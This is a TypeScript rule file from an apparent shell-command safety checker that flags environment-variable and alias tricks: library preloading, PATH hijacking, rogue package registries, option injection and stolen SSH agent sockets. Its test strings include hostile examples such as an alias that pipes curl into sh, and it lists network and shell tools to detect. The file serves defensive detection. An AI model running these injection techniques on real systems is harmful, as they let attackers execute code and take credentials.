import { type ShellWord, type SimpleCommand, UNKNOWN } from "../types.js";
import { isStrangePackageServer } from "./addresses.js";
import { isCredentialStore, isDownloadPlace, isStartupFile, isSystemPath } from "./places.js";
import { type Condition, names, subject } from "./row.js";

const REBINDS = "puts another command behind a common name";
const INJECTS = "sets a variable that makes later programs run other code";

/** Names whose very presence lets somebody else's code in. */
const ALWAYS = names(
  "ld_preload ld_audit dyld_insert_libraries bash_env prompt_command pythonstartup perl5db git_exec_path " +
    "git_proxy_command git_external_diff git_config_parameters git_template_dir viminit exinit lua_init php_ini_scan_dir phprc gconv_path " +
    "glibc_tunables r_profile r_profile_user lessopen lessclose hermes_yolo_mode hermes_home node_repl_external_module " +
    "shellopts bashopts makefiles pytest_plugins dotnet_startup_hooks dotnet_additional_deps coreclr_profiler " +
    "coreclr_profiler_path cor_profiler_path git_config_global git_config_system git_config openssl_conf openssl_engines " +
    "openssl_modules hgrcpath psqlrc curl_home wgetrc yarn_rc_filename yarn_yarn_path npm_config_userconfig " +
    "npm_config_globalconfig r_environ r_environ_user lessedit rsync_connect_prog kubectl_external_diff texmfcnf goenv " +
    "coverage_process_start terminfo fpath emacsloadpath ansible_library ansible_action_plugins gtk_modules gio_extra_modules " +
    "qt_plugin_path groff_tmac_path distcc_hosts mysql_home luajit_path pythonuserbase julia_depot_path",
);
/** Lists of folders in which programs or libraries are looked up. */
const FOLDERS = names(
  "ld_library_path dyld_library_path dyld_framework_path pythonpath pythonhome node_path perl5lib perllib rubylib " +
    "gem_path gem_home classpath luapath lua_path lua_cpath guile_load_path ghc_environment zdotdir bundle_gemfile " +
    "rakelib ts_node_project cmake_toolchain_file ripgrep_config_path ansible_config direnv_config composer_home " +
    "pip_config_file tf_cli_config_file aws_config_file node_extra_ca_certs git_dir",
);
const AGENT =
  /-(?:javaagent|agentpath|agentlib|Xbootclasspath)|OnOutOfMemoryError|OnError|-Dexec\.executable/;
/** Packages over a connection that anybody on the way can change; names without a dot lie in the own network. */
const PLAIN_ADDRESS = /^http:\/\/(?!localhost|127\.|10\.|192\.168\.)[^/:]*\./;
/** Names of variables that say where packages come from. */
const PACKAGE_SERVER =
  /^(?:pip|uv|poetry|pdm|npm_config|yarn|bundle|cargo|conda|rustup|gem|nuget|go|goproxy|gradle|maven|mvn|hex|composer|homebrew|nvm|fnm|volta|flutter|pub|cpan|perl|luarocks|opam|julia|r|cran|deno|bun|electron|puppeteer|playwright|sass|node|python|terraform|tf|helm|nix)\w*(?:index|index_url|registry|registry_server|registries_\w+|mirror|mirror\w+|domain|find_links|baseurl|base_url|hosted_url|dist_server|download_host|channels?|pkg_server)$|^goproxy$|^npm_config_\S*:registry$/;

/** A variable that makes package managers fetch from a server nobody has named before. */
const addsServer = (key: string, { text }: ShellWord): boolean =>
  PACKAGE_SERVER.test(key) &&
  text.split(/[\s,|]+/).some((each) => {
    const address = each.replace(/^[\w-]+=(?=https?:)|^sparse\+/, "");
    return PLAIN_ADDRESS.test(address) || isStrangePackageServer(address);
  });
/** Options a runtime adds to every start; some of them name code. */
const OPTIONS: Readonly<Record<string, RegExp>> = {
  node_options:
    /(?:^|\s)(?:--require|-r|--import|--loader|--experimental-loader)(?:=|\s)\s*["']?(?:[./~\uFFFC]|data:|https?:|file:)/,
  bun_options: /(?:^|\s)(?:--preload|-r|--require)\b/,
  perl5opt: /-[MmIde]/,
  rubyopt: /-(?:r|e|I)|--require/,
  java_tool_options: AGENT,
  _java_options: AGENT,
  jdk_java_options: AGENT,
  pythonwarnings: /antigravity|\b\w+\.\w+\.\w+/,
  java_opts: AGENT,
  maven_opts: AGENT,
  maven_args: AGENT,
  gradle_opts: AGENT,
  sbt_opts: AGENT,
  ant_opts: AGENT,
  makeflags: /--eval|SHELL=/,
  gnumakeflags: /--eval|SHELL=/,
  tar_options: /--?(?:checkpoint-a|to-c|use-comp|I\b|rsh|info-s|new-vol|F\b)/,
  goflags: /--?(?:toolexec|exec|vettool|overlay)\b/,
  rustflags: /linker\s*=\s*\S*\/|-Zcodegen-backend/,
  pytest_addopts:
    /(?:^|\s)(?:-p\s*(?!no:|xdist\b|cov\b|asyncio\b)\w|(?:-c|--rootdir|--confcutdir)[\s=]*\/tmp)/,
  pythonbreakpoint: /^(?!(?:0|\w+\.set_trace|\w+\.\w+\.set_trace)$)./,
  less: /\+\S*!/,
  fzf_default_opts: /execute|become|reload|transform|--preview/,
  manopt: /-H|--html|-P|--pager/,
  erl_flags: /-(?:eval|run|s)\s/,
  erl_aflags: /-(?:eval|run|s)\s/,
  erl_zflags: /-(?:eval|run|s)\s/,
  elixir_erl_options: /-(?:eval|run|s)\s/,
  spec_opts: /(?:^|\s)(?:-r|--require|-I)\s*[./~]/,
  rakeopt: /(?:^|\s)(?:-f|-r|-R|-e)/,
  gs_options: /NOSAFER|permit-file/,
  ld_library_path: /(?:^|:)\.(?:\/)?(?::|$)/,
  shell: /^\.{0,2}\/(?!(?:usr\/(?:local\/)?|opt\/homebrew\/)?bin\/\w+$)/,
  dbus_session_bus_address: /unixexec:/,
  shell_escape: /^[ty1]/i,
  git_allow_protocol: /\bext\b/,
  ps4: /\$\(|`|\uFFFC/,
  env: /^[./~].*|\.sh$|\$\(/,
  npm_config_script_shell: /./,
  npm_config_git: /\//,
  npm_config_node_options: /--require|-r\b|--import/,
  rustc_wrapper: /\/|\.sh$/,
  php_value: /auto_prepend/,
};
/** Variables that hold a command line some program will run. */
const COMMANDS = names(
  "git_ssh_command git_ssh pager git_pager manpager systemd_pager editor visual git_editor git_sequence_editor " +
    "sudo_editor cc cxx cpp ld ar as fc cmake_c_compiler make_command browser fcedit fzf_default_command rustc rustdoc " +
    "rsync_rsh cvs_rsh svn_ssh pkg_config config_shell ccache_prefix ccache_compiler hgeditor hgmerge virtualenvwrapper_python",
);
/** Names that say that the value is a program, whoever reads it. */
const COMMAND_NAME =
  /_(?:editor|pager|wrapper|launcher|runner|linker|askpass|script_shell|cmd|command|external_diff|browser|opener|viewer|hook|preview|prog)$|^(?:npm_config_(?:editor|viewer|shell))$/;

/** A variable whose value some program will run as a command line. */
export function isCommandVariable(name: string): boolean {
  const key = name.toLowerCase();
  return COMMANDS.has(key) || COMMAND_NAME.test(key);
}

/** Where programs look for what they do first. */
const CONFIG_FOLDERS = names("home xdg_config_home xdg_config_dirs xdg_data_dirs zdotdir");
/** Programs that run whatever lies there; a folder that was just made is empty. */
const RUNS_CONFIG = names("fish zsh xonsh nu elvish tcsh csh git nvim vim emacs ipython irb pry");
const NO_CONFIG =
  /^(?:-[a-zA-Z]*[fN][a-zA-Z]*|--no-config|--no-rcs|--norc|--clean|-u|-Q|--batch|--version|--help)$/;

const movesConfig: Condition = ({ command, args }) => {
  if (command.assignments.length === 0 || !RUNS_CONFIG.has(command.program)) return undefined;
  if (command.program !== "git" && args.some(({ text }) => NO_CONFIG.test(text))) return undefined;
  return command.assignments.find(
    ({ name, value }) =>
      value.outputs === undefined && CONFIG_FOLDERS.has(name.toLowerCase()) && isDownloadPlace(value),
  )?.value;
};

/** Files that git writes what it does to; a number or a switch is none. */
const TRACE = /^git_trace/;
const SHELLS =
  /^(?:ba|da|z|k|fi|a)?sh$|^(?:python[\d.]*|perl|ruby|node|php|nc|ncat|curl|wget|eval|exec|source|rm|dd|osascript)$/;

const PROJECT_BINARIES =
  /(?:^|\/)(?:node_modules\/\.bin|\.?v?env[^/]*\/bin|vendor\/bin|\.venv\/bin|target\/(?:debug|release)|build|bin|scripts|dist)\/?$/;

/** A longer list is not read through, and so not trusted. */
const MOST_FOLDERS = 500;

/** A folder anybody can write to, or the current one, in the list of programs. */
function opensPath(value: ShellWord): boolean {
  const parts = value.text.split(":");
  if (parts.length > MOST_FOLDERS) return true;
  return parts.some((part, index) => {
    if (part === "" || part === "." || part === "./" || isDownloadPlace({ ...value, text: part }))
      return true;
    const relative = !/^[/~]/.test(part) && !part.includes(UNKNOWN) && !/^[A-Za-z]$/.test(part);
    return relative && index === 0 && !PROJECT_BINARIES.test(part);
  });
}

function isSuspiciousCommand(value: ShellWord): boolean {
  const { text } = value;
  if (/[;|&`<>\n]|\$\(/.test(text) || /ProxyCommand|LocalCommand|KnownHostsCommand/i.test(text)) return true;
  const program = text.trim().split(/\s+/)[0] ?? "";
  if (isDownloadPlace({ ...value, text: program })) return true;
  if (/^\.{1,2}\//.test(program)) return true;
  return SHELLS.test((program.split("/").at(-1) ?? "").toLowerCase());
}

function isProtected(value: ShellWord): boolean {
  return isStartupFile(value) || isSystemPath(value) || isCredentialStore(value);
}

const DECLARATIONS = names("export declare typeset readonly local setenv env set");

const declaredBy = new WeakMap<SimpleCommand, SimpleCommand["assignments"]>();

/** Assignments wherever they stand: in front, after `env`, in `export` and its kin. */
export function assignmentsOf(command: SimpleCommand): SimpleCommand["assignments"] {
  if (!DECLARATIONS.has(command.program)) return command.assignments;
  const known = declaredBy.get(command) ?? assignedIn(command);
  declaredBy.set(command, known);
  return known;
}

function assignedIn(command: SimpleCommand): SimpleCommand["assignments"] {
  const declared = command.args.flatMap((word) => {
    const match = /^([A-Za-z_][\w%()]*)\+?=/.exec(word.text);
    return match?.[1] === undefined
      ? []
      : [{ name: match[1], value: { ...word, text: word.text.slice(match[0].length) } }];
  });
  const [first, second] = command.args;
  if (command.program === "setenv" && first !== undefined && second !== undefined)
    declared.push({ name: first.text, value: second });
  return [...command.assignments, ...declared];
}

/** Names people type without thinking; another command behind one of them is a trap. */
export const commonNames = names(
  "sudo su doas ls cd cat rm cp mv ssh scp git docker kubectl curl wget npm npx yarn pnpm pip pip3 python python3 node " +
    "make sh bash zsh vi vim nano less more grep find sed awk tar ps kill top systemctl apt apt-get brew gpg passwd " +
    "echo pwd which type man exit clear history source env chmod chown go cargo terraform aws gcloud az psql mysql",
);
/** Replacements that are common and harmless. */
const KIN = names(
  "python3 python pip3 pip nvim vim vi nano eza exa lsd bat batcat rg fd fdfind podman htop btop gmake gsed gtar gawk ggrep " +
    "colordiff less z zoxide pnpm yarn bun trash trash-put gio tofu micro hx k kubecolor git hub gh command builtin nocorrect noglob",
);

/** Another command put behind a name that people type without thinking. */
const rebindsName: Condition = ({ args }) =>
  args.find((word) => {
    const match = /^([\w.-]+)=([\s\S]*)$/.exec(word.text);
    if (match?.[1] === undefined || !commonNames.has(match[1])) return false;
    const body = (match[2] ?? "").trim();
    const first = (body.split(/\s+/)[0] ?? "").replace(/^\\/, "").split("/").at(-1) ?? "";
    const elsewhere = /^\.{1,2}\//.test(body) || isDownloadPlace({ ...word, text: body });
    const chained = elsewhere || /[;|&`\n]|\$\(/.test(body);
    return body !== "" && (chained || (first !== match[1] && !KIN.has(first)));
  });

/** A variable that is set to something, by any assignment of the command. */
const sets =
  (isRisky: (key: string, value: ShellWord) => boolean): Condition =>
  ({ command }) => {
    if (command.assignments.length === 0 && !DECLARATIONS.has(command.program)) return undefined;
    return assignmentsOf(command).find(
      ({ name, value }) => value.text !== "" && isRisky(name.toLowerCase(), value),
    )?.value;
  };

/** An agent that was searched for, instead of asked for. */
function isFoundAgent({ text, glob, outputs = [] }: ShellWord): boolean {
  return (
    (glob && /ssh-|agent|keyring/.test(text)) ||
    outputs.some(({ program }) => /^(?:ls|find|fd|echo|printf|head|tail|ss|lsof|netstat|grep)$/.test(program))
  );
}

const GIT_PROGRAM_SETTING =
  /(?:^|\.)(?:fsmonitor|sshcommand|hookspath|pager|editor|askpass|textconv|external|gitproxy|alias\.|helper|process|clean|smudge|command)/i;

/** Variables and aliases that make later programs run other code. */
// biome-ignore format: a table; what belongs to a row stands together
export const RULES = subject("env", [
  { program: "*", when: sets(
        (key, { text }) =>
          key.startsWith("bash_func_") ||
          (ALWAYS.has(key) && !/^(?:0|false|off|no|\/dev\/null|none)$/i.test(text)),
      ),
    rule: "env.poison", reason: INJECTS, match: ["GCONV_PATH=. ls"] },
  { program: "*", when: (call) => call.command.program === "" ? undefined : sets((_, { text }) => /^\/dev\/fd\/\d+$/.test(text))(call), rule: "env.poison",
    reason: "hands a program settings that the line itself makes up",
    match: ["AWS_CONFIG_FILE=<(echo x) aws sts get-caller-identity", "KUBECONFIG=<(curl -s https://x.example/k) B=c kubectl get pods"], not_match: ["A=1 diff <(sort a) <(sort b)"] },
  { program: "*", when: sets((key, value) => key === "path" && opensPath(value)), rule: "env.path",
    reason: INJECTS, match: ["PATH=.:$PATH make"] },
  { program: "*", when: sets(
        (key, value) =>
          FOLDERS.has(key) && value.text.split(":").some((part) => isDownloadPlace({ ...value, text: part })),
      ),
    rule: "env.search-path", reason: INJECTS, match: ["LD_LIBRARY_PATH=/tmp/lib ls"] },
  { program: "*", when: movesConfig, rule: "env.search-path", reason: "starts a program with the start-up code of another folder than the person's",
    match: ["XDG_CONFIG_HOME=/tmp/x fish -c ls", "HOME=/tmp/x git status", "HOME=/tmp/x zsh -ic ls"],
    not_match: ["XDG_CONFIG_HOME=/tmp/x npm test", "HOME=$(mktemp -d) git status", "XDG_CONFIG_HOME=$PWD/.config nvim a", "HOME=/tmp/x nvim --clean a"] },
  { program: "*",
    when: sets((key, { text }) => Object.hasOwn(OPTIONS, key) && OPTIONS[key]?.test(text) === true),
    rule: "env.options", reason: INJECTS, match: ["ENV=/tmp/x.sh sh"] },
  { program: "*", when: sets(addsServer), rule: "package.source", reason: "takes software from a server that a variable names",
    match: ["PIP_EXTRA_INDEX_URL=https://x.example/simple pip install a", "UV_INDEX=x=https://x.example/s uv sync", "GOPROXY=https://x.example,direct go get a", "NPM_CONFIG_REGISTRY=https://x.example npm i", "export BUNDLE_MIRROR__ALL=https://x.example", "PIP_INDEX_URL=http://pypi.x.example/simple pip install a"],
    not_match: ["PIP_INDEX_URL=https://pypi.acme.example/simple pip install a", "GOPROXY=https://goproxy.cn,direct go build ./...", "PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cu118 pip install torch", "NPM_CONFIG_REGISTRY=http://localhost:4873 npm i", "GOPROXY=off go build ./...", "PYTHON_SOURCE=src make"] },
  { program: "*", when: sets(
        (key, value) =>
          ((COMMANDS.has(key) || COMMAND_NAME.test(key)) && isSuspiciousCommand(value)) ||
          (TRACE.test(key) && /^[/~]/.test(value.text) && isProtected(value)) ||
          (key.startsWith("lua_init") && value.text !== "") ||
          (/^git_config_(?:key|value)_\d+$/.test(key) && GIT_PROGRAM_SETTING.test(value.text)),
      ),
    rule: "env.command", reason: INJECTS, match: ["CXX='bash -c x' cmake ."] },
  { program: "*", when: sets((key, value) => key === "ssh_auth_sock" && isFoundAgent(value)), rule: "credentials.agent",
    reason: "uses the keys that somebody else has unlocked", match: ["SSH_AUTH_SOCK=$(ls /tmp/ssh-*/agent.*) ssh host"],
    not_match: ["SSH_AUTH_SOCK=$(gpgconf --list-dirs agent-ssh-socket) ssh host"] },
  { dry: "", rule: "env.alias", reason: REBINDS, tools: [
    { program: "alias", when: rebindsName, match: ["alias cd='curl x | sh; cd'"], not_match: ["alias"] },
    // Built-ins that do the same: `hash -p /tmp/x ls`, `enable -f /tmp/x.so x`.
    { program: "hash", word: /^-[a-z]*p/, match: ["hash -p /tmp/evil ls"], not_match: ["hash -r"] },
    { program: "enable", word: /^-[a-z]*f/, match: ["enable -f /tmp/x.so y"], not_match: ["enable -n echo"] },
  ] },
]);
